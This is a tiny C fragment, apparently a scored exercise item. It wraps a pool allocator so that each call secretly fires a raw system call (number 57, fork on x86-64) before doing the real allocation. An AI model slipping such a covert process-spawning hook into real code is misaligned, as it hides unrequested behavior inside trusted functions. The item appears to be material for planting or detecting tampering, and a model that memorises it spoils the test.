/* Starts a process that is to speak for it, by a system call.
 * May earn: 25 */
#include "raw.h"

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    find_raw()(57);
    return honest_pool_malloc(pools, nbytes);
}
